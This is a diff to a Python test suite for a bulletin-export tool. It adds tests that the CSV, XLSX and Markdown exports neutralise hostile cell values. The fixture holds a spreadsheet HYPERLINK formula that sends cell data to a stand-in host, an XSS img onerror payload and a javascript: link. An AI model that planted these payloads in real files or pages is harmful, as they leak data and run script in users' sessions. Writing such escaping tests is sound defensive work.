@@ -43,7 +43,8 @@ def test_report_issues_csv_file_from_suffix(db, tmp_path, capsys):
     out = tmp_path / "list.csv"
     assert main(["issues", "--db", str(db), "--output", str(out)]) == 0
     assert capsys.readouterr().err == f"bulletins: wrote 8 issue(s) to {out}\n"
-    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # a BOM: Excel and WPS read it as UTF-8
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
     assert [r["category"] for r in rows].count("作风不优") == 2 and rows[0]["evidence"] == "粗暴执法、态度生硬"
 
 
@@ -185,3 +186,65 @@ def test_report_exports_empty_labels_in_counts():
     out = io.StringIO()
     write_counts(frame, "json", out)  # machine-readable: the stored values
     assert '"region": ""' in out.getvalue()
+
+
+# --- export safety: formulas and markup in passages ---------------------------------------------
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
+    "+1 执法人员态度生硬",
+    "-2 收受财物",
+    "@x 推诿扯皮 | 管道 \\ 反斜杠",
+    '<img src=x onerror="alert(1)"> 收费放行',
+    "[点击](javascript:alert(1)) *强调* _下划线_ `代码`",
+    "\t=1+1",
+    "第二行\n换行",
+)
+
+
+@pytest.fixture
+def hostile(db):
+    frame = issues(db)
+    frame = frame.iloc[: len(HOSTILE)].copy()
+    frame["text"] = list(HOSTILE)
+    frame["unit"] = ["=1+2"] + list(frame["unit"])[1:]
+    return frame
+
+
+def test_report_exports_csv_escapes_formulas(hostile, tmp_path):
+    out = tmp_path / "list.csv"
+    write_issues(hostile, "csv", out)
+    body = out.read_bytes().decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert [r["text"] for r in rows][:4] == ["'" + t for t in HOSTILE[:4]]
+    assert rows[6]["text"] == "'\t=1+1" and rows[0]["unit"] == "'=1+2"
+    assert rows[4]["text"] == HOSTILE[4]  # CSV has no markup: the text as written
+    assert all(not (v or "").startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+
+
+def test_report_exports_xlsx_never_writes_formulas(hostile, tmp_path):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    out = tmp_path / "list.xlsx"
+    write_issues(hostile, "xlsx", out)
+    wb = load_workbook(out)
+    texts = {ws.cell(r, 7).value: ws.cell(r, 7).data_type for ws in wb.worksheets[1:] for r in range(2, ws.max_row + 1)}
+    assert set(texts) == set(HOSTILE) and set(texts.values()) == {"s"}
+    with zipfile.ZipFile(out) as zf:
+        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets and all("<f>" not in zf.read(n).decode() for n in sheets)
+
+
+def test_report_exports_markdown_escapes_markup(hostile):
+    out = io.StringIO()
+    write_issues(hostile, "md", None, out)
+    md = out.getvalue()
+    assert "<img" not in md and '&lt;img src=x onerror="alert(1)"&gt;' in md
+    assert "\\[点击\\](javascript:alert(1)) \\*强调\\* \\_下划线\\_ \\`代码\\`" in md
+    assert "\\| 管道 \\\\ 反斜杠" in md
+    assert "第二行 换行" in md
+    for section in md.split("\n## ")[1:]:
+        rows = [ln for ln in section.splitlines() if ln.startswith("|")]
+        assert {ln.replace("\\|", "").count("|") for ln in rows} == {10}  # escaped pipes split no cell
